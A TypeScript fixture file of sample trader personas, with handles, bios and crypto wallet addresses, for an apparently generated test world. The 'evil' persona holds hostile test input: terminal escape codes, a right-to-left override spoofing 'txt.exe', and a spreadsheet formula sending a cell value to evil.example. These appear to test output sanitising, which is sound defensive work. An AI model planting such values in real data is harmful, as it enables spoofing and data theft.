import type { ResolvePlan } from '../world.ts';

/** What distinguishes a trader from others. */
export interface Persona {
  readonly handle: string;
  readonly name: string | null;
  readonly bio: string | null;
  readonly solana: string | null;
  readonly evm: string | null;
  /** The result of a live resolve. The wallets of traders without a plan are verified. */
  readonly plan?: ResolvePlan | undefined;
  readonly sample?: boolean;
  /** Whether the trader never trades and never posts. */
  readonly idle?: boolean;
}

const wallets = {
  solana: 'GXGxnQNeLLboiUqKykCDk9m6uaZFSA29V9DZLnCa84pW',
  evm: '0x862A89Bd9c983A2fd04C9Fd25bCf45544C7254b4',
};
const pending = (reason: Extract<ResolvePlan, { reason: unknown }>['reason']): ResolvePlan => ({
  outcome: 'pending',
  reason,
});

const rows: readonly (Pick<Persona, 'handle'> & Partial<Persona>)[] = [
  {
    handle: 'mira',
    name: 'Mira 🌙',
    bio: 'Swing trades on three chains. Thesis first.',
    sample: true,
    ...wallets,
  },
  {
    handle: 'solwolf',
    name: 'Sol Wolf',
    bio: 'Solana only. awooo 🐺',
    solana: '3N9Xj7WXAfbkQqRbNsp1Z9pVLQ1PKQQKyw2PPsNXDGme',
    sample: true,
  },
  {
    handle: '0xMert',
    name: 'Mert',
    bio: 'EVM only.',
    evm: '0xdBe528604C8Cb61cBaAf4B5e6aE3B8349AB0e3dd',
    sample: true,
  },
  {
    handle: 'evil',
    name: '\u001b[31mEvil\u001b[0m \u202etxt.exe\u202c',
    bio: '=HYPERLINK("https://evil.example/?c="&A1,"click")\u001b]8;;https://evil.example\u0007link\u001b]8;;\u0007\u009b2J\r\nsecond line\ttabbed\u0000',
    solana: '8DsGnMLdbe9bPSbvcfrDwAtTvoyRe8hUqo53wvZSRm3k',
    evm: '0xB58161F51e62EE798A11D90d88D275f2435706D1',
  },
  {
    handle: 'tokyo',
    name: '東京トレーダー',
    bio: '板読みと気合い。',
    solana: 'HRQH6sd6PkjUqSnDRP34qXWbwiM1d19U3FvA4JfuZpcZ',
    evm: '0x6efC5224F60F7F435e36700bea876ebC45560eE3',
    sample: true,
  },
  {
    handle: 'layla',
    name: 'ليلى المتداولة',
    bio: 'أكتب قبل أن أشتري.',
    solana: 'FadjdN6dyxfE6im8cU8fnRbHebKmowMpvNUQEvgW5Hvq',
  },
  {
    handle: 'noam',
    name: 'נועם',
    bio: 'סוחר לילה 🌃',
    evm: '0x6a1aB430ba0F6e398385B496D2D947d31a80E0B7',
  },
  {
    handle: 'quantumhawk',
    bio: 'I buy high so that you can buy higher 🫡',
    solana: 'DU6uzcVtxtjrQRGggdxgQxL5rFeQ71hueMVcoAgZwRPC',
    evm: '0x7A05B13CE837F52EB87A230b826F3A2126A3c3Df',
  },
  {
    handle: 'Oracle28',
    name: 'Turbo Baron',
    bio: 'charts, coffee, cope ☕️📉',
    solana: '13oZZGBSEAGZuX4GA5y7UPeNDhaw8ZkBacLugaco2gQP',
  },
  { handle: 'mira_alt', idle: true, ...wallets },
  { handle: 'quiet', name: 'Quiet', solana: '7qydmbACEZPzJRyNhhW6YkdMcw7Se59uTmHPdQcYfr9R', idle: true },
  {
    handle: 'nowallet',
    name: 'No Wallet',
    solana: '8jxPJ66jMKxfQ6hxVTpu9piEBpwa61sqS7hTRYCrAMfL',
    plan: pending('no_preview'),
  },
  {
    handle: 'slowpoke',
    name: 'Slowpoke 🐢',
    bio: 'I get there.',
    solana: 'FMtSBh1mtZMRSoB5EeK9C9wiGeWBduocjC1DKFpq98vu',
    evm: '0xd3ADB57A20EAf31b6fe4740A329A8FcCFefd7f4c',
    plan: { outcome: 'found', ms: 3_000, queue: 2 },
  },
  { handle: 'tardy', name: 'Tardy', plan: pending('timeout') },
  { handle: 'offline', name: 'Offline', plan: pending('unavailable') },
  { handle: 'throttled', plan: pending('rate_limited') },
  { handle: 'newborn', name: 'Newborn', plan: pending('not_ingested') },
  {
    handle: 'q',
    name: 'Q',
    bio: '',
    solana: 'FwXF2Y12QUgoKsGpBcRjFWcd1za39DsdmfAbicLgsMwa',
    evm: '0xECfac04728C44Fc7211f30CCb02af2CDb4D02a32',
  },
  {
    handle: 'the_longest_handle_that_the_service_takes_is_64_characters_long_',
    name: 'A Name That Is Far Longer Than Most Of The Other Ones',
    solana: '7VTBn9hcNaA2K9NHNfPX3CKd7PZF78XmxmXmYN3mA5Ki',
  },
];

/**
 * The traders who are in every generated world, so that docs and tests can refer to them. The first ones are the most
 * active.
 */
export const fixedTraders: readonly Persona[] = rows.map((row) => ({
  name: null,
  bio: null,
  solana: null,
  evm: null,
  ...row,
}));
